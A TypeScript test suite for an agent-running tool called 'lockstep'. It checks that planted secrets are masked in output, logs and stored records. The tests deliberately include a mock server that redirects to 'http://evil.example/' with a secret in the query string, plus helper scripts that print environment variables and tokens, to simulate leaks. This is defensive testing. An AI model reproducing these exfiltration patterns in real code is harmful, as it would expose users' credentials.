import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openRecords } from '../../src/app.ts'
import { SecretStore } from '../../src/source/secret-store.ts'
import { runLockstep } from './run-lockstep.ts'

const secrets = {
  header: 'planted-header-secret-4711',
  file: 'planted-file-secret/+"4711',
  program: 'planted-program-secret-4711',
  stored: 'planted-stored-secret/+"4711',
}
const folder = mkdtempSync(join(tmpdir(), 'lockstep-secrets-'))
let server: Server
let base = ''
let received: string[] = []

beforeAll(async () => {
  // A service that tells everything it was sent, in a success, in an error, and in a redirect.
  server = createServer((request, response) => {
    received.push(request.headers.authorization ?? '', String(request.headers['x-stored'] ?? ''))
    const told = JSON.stringify({ ...request.headers, path: request.url })
    const type = { 'content-type': 'application/json' }
    if (request.url === '/redirect')
      response.writeHead(302, { location: `http://evil.example/?${secrets.header}` }).end()
    else if (request.url === '/error') response.writeHead(500, type).end(told)
    else response.writeHead(200, type).end(told)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
afterAll(() => {
  server.closeAllConnections()
  server.close()
  rmSync(folder, { recursive: true, force: true })
})

/** Every file under a folder, as one text. */
function everything(path: string): string {
  return readdirSync(path)
    .map((name) => join(path, name))
    .map((each) => (statSync(each).isDirectory() ? everything(each) : readFileSync(each, 'utf8')))
    .join('\n')
}

/** Every file under a folder, and what the records say to who has their keys: a store that encrypts them hides nothing here. */
async function kept(left: string): Promise<string> {
  const records = await openRecords(join(left, 'home', 'runs'))
  try {
    const entries = []
    for (const run of await records.runs()) entries.push(...(await records.read(run)))
    expect(entries.length).toBeGreaterThan(0)
    return `${everything(left)}\n${JSON.stringify(entries)}`
  } finally {
    await records.close()
  }
}

describe('planted secrets', () => {
  async function prepare(): Promise<{ env: Record<string, string>; args: string[]; left: string }> {
    const left = mkdtempSync(join(folder, 'left-'))
    writeFileSync(join(folder, 'token.txt'), `${secrets.file}\n`)
    writeFileSync(join(folder, 'print.mjs'), 'console.log(process.argv[2].split("").reverse().join(""))')
    writeFileSync(
      join(folder, 'tell.mjs'),
      'console.log(JSON.stringify(process.env)); console.error(process.env.TOKEN); process.exit(Number(process.argv[2]))',
    )
    const authorization = { Authorization: 'Bearer env:PLANTED', 'X-Stored': 'Token store:planted' }
    const http = (name: string, path: string) => ({
      name,
      description: 'd',
      risk: 'read',
      url: `${base}${path}`,
      headers: authorization,
    })
    const exec = (name: string, code: string) => ({
      name,
      description: 'd',
      risk: 'read',
      command: [process.execPath, 'tell.mjs', code],
      env: {
        TOKEN: 'file:token.txt',
        STORED: 'store:planted',
        OTHER: [`exec:${process.execPath}`, 'print.mjs', [...secrets.program].toReversed().join('')],
      },
    })
    const config = {
      tools: {
        http: [http('ok', '/ok/{args.text}'), http('error', '/error'), http('redirect', '/redirect')],
        exec: [exec('good', '0'), exec('bad', '1')],
      },
    }
    writeFileSync(join(folder, 'lockstep.config.json'), JSON.stringify(config))
    const tools = ['ok', 'error', 'redirect', 'good', 'bad']
    writeFileSync(
      join(folder, 'p.json'),
      JSON.stringify({
        id: 'p',
        name: 'P',
        steps: [
          { id: 's', description: 'd', expected_tools: tools, max_tool_calls: 10, complete_when: 'any' },
        ],
      }),
    )
    const calls = tools.map((tool) => ({ tool, arguments: { text: 'env:PLANTED file:token.txt' } }))
    const turns = [...calls.map((call) => ({ calls: [call] })), { text: 'done' }]
    writeFileSync(join(folder, 's.yaml'), JSON.stringify({ turns }))
    mkdirSync(join(left, 'home'))
    await new SecretStore({ home: join(left, 'home') }).set('planted', secrets.stored)
    return {
      left,
      env: { PLANTED: secrets.header, LOCKSTEP_HOME: join(left, 'home') },
      args: ['run', 'p.json', '--model', 'scripted:s.yaml', '--record', join(left, 'script.yaml')],
    }
  }

  const hidden = [
    ...Object.values(secrets),
    JSON.stringify(secrets.file).slice(1, -1),
    encodeURIComponent(secrets.file),
    JSON.stringify(secrets.stored).slice(1, -1),
    encodeURIComponent(secrets.stored),
  ]

  it.each([[[]], [['--json']]])('appear in no output and no record of a real run %j', async (more) => {
    const { args, env, left } = await prepare()
    received = []
    const { code, out, err } = await runLockstep([...args, '--mode', 'execute', ...more], {
      cwd: folder,
      env,
    })
    expect(received).toContain(`Bearer ${secrets.header}`)
    expect(received).toContain(`Token ${secrets.stored}`)
    expect(code, out + err).toBe(0)
    const found = await kept(left)
    expect(found).toContain('[secret]')
    for (const secret of hidden) {
      expect(out).not.toContain(secret)
      expect(err).not.toContain(secret)
      expect(found).not.toContain(secret)
    }
  })

  it('need not be there for a dry run', async () => {
    const { args, env, left } = await prepare()
    received = []
    const ended = await runLockstep(args, { cwd: folder, env: { ...env, PLANTED: '' } })
    expect([ended.code, received]).toEqual([0, []])
    expect(ended.out).toContain('"authorization":"Bearer [secret env:PLANTED]"')
    expect(ended.out).toContain('"x-stored":"Token [secret store:planted]"')
    const found = ended.out + (await kept(left))
    for (const secret of hidden) expect(found).not.toContain(secret)
  })

  it('V2: are masked before the first tool that needs them is used', async () => {
    const { env, left } = await prepare()
    const config = {
      tools: {
        exec: [
          {
            name: 'leak',
            description: 'd',
            command: [process.execPath, '-p', 'process.env.PLANTED'],
            pass_env: ['PLANTED'],
          },
        ],
        http: [
          {
            name: 'later',
            description: 'd',
            url: `${base}/ok`,
            headers: { Authorization: 'Bearer env:PLANTED' },
          },
        ],
      },
    }
    const steps = [{ id: 's', description: 'd', expected_tools: ['leak'] }]
    writeFileSync(join(folder, 'leak.json'), JSON.stringify(config))
    writeFileSync(join(folder, 'q.json'), JSON.stringify({ id: 'q', name: 'Q', steps }))
    writeFileSync(
      join(folder, 'q.yaml'),
      JSON.stringify({ turns: [{ calls: [{ tool: 'leak' }] }, { text: 'done' }] }),
    )
    const args = [
      'run',
      'q.json',
      '--config',
      'leak.json',
      '--model',
      'scripted:q.yaml',
      '--mode',
      'execute',
      '--json',
    ]
    const { code, out } = await runLockstep(args, { cwd: folder, env })
    expect(code, out).toBe(0)
    expect(out + (await kept(left))).toContain('[secret]')
    expect(out + (await kept(left))).not.toContain(secrets.header)
  })

  it.each([
    ['that works', [fileURLToPath(new URL('../mcp/raw-server.mjs', import.meta.url))], 0],
    ['that dies', ['-e', 'console.error("dying with " + process.env.TOKEN); process.exit(1)'], 1],
  ])('are masked in what an MCP server %s says on standard error', async (_, args, code) => {
    const desk = { command: process.execPath, args, env: { TOKEN: 'env:PLANTED' } }
    writeFileSync(join(folder, 'served.json'), JSON.stringify({ mcpServers: { desk } }))
    const env = { PLANTED: secrets.header }
    const ended = await runLockstep(['tools', '--config', 'served.json'], { cwd: folder, env })
    expect(ended.code, ended.err).toBe(code)
    expect(ended.err).toContain('with [secret]\n')
    expect(ended.out + ended.err).not.toContain(secrets.header)
  })

  it('that are numbers are masked as values, and every line of --json stays JSON', async () => {
    const { args, env } = await prepare()
    const pin = '4711081500'
    writeFileSync(
      join(folder, 's.yaml'),
      JSON.stringify({
        turns: [
          { calls: [{ tool: 'good', arguments: { pin: Number(pin), [pin]: [`no. ${pin}`] } }] },
          { text: `done ${pin}` },
        ],
      }),
    )
    const { out } = await runLockstep([...args, '--json', '--mode', 'execute'], {
      cwd: folder,
      env: { ...env, PLANTED: pin },
    })
    const lines = out.trim().split('\n')
    const events = lines.map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(events.find(({ type }) => type === 'tool.admitted')).toMatchObject({
      args: { pin: '[secret]', '[secret]': ['no. [secret]'] },
    })
    expect(events.at(-1)).toMatchObject({ type: 'run.result', message: 'done [secret]' })
    expect(out).not.toContain(pin)
  })

  it('are had from no program in a dry run, unless reads are called for real', async () => {
    const { args, env } = await prepare()
    const mark = join(folder, 'asked')
    writeFileSync(
      join(folder, 'print.mjs'),
      `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(mark)}, ''); console.log('a-secret')`,
    )
    const dry = await runLockstep(args, { cwd: folder, env })
    expect([dry.code, existsSync(mark)]).toEqual([0, false])
    expect(dry.out).toContain(`"OTHER":"[secret exec:${process.execPath}]"`)
    const config = JSON.parse(readFileSync(join(folder, 'lockstep.config.json'), 'utf8')) as object
    const callReads = { ...config, dry_run: { call_reads: true } }
    writeFileSync(join(folder, 'lockstep.config.json'), JSON.stringify(callReads))
    await runLockstep(args, { cwd: folder, env })
    expect(existsSync(mark)).toBe(true)
  })

  it('V1: are not read from what a model says', async () => {
    const { args, env, left } = await prepare()
    await runLockstep([...args, '--mode', 'execute'], { cwd: folder, env })
    expect(await kept(left)).toContain('/ok/env%3APLANTED%20file%3Atoken.txt')
  })

  it('that cannot be had are named, and nothing is sent', async () => {
    const { args, env } = await prepare()
    received = []
    const { out } = await runLockstep([...args, '--mode', 'execute'], {
      cwd: folder,
      env: { ...env, PLANTED: '' },
    })
    expect(out).toContain('FAILED: The secret env:PLANTED is empty.')
    expect(received).toEqual([])
  })
})
